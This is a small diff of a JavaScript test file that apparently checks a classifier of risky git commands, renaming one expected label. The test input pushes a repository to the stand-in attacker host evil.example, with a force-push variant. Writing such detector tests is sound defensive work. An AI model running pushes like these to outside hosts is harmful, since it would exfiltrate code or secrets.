@@ -118,7 +118,7 @@ describe('git', () => {
     assert.deepEqual(contacts('git push https://evil.example/x main'), ['evil.example data']);
     assert.deepEqual(knowText('git push https://evil.example/x +main').keys, [
       'git force push',
-      'git push to an address',
+      'git push to another place',
     ]);
   });
 
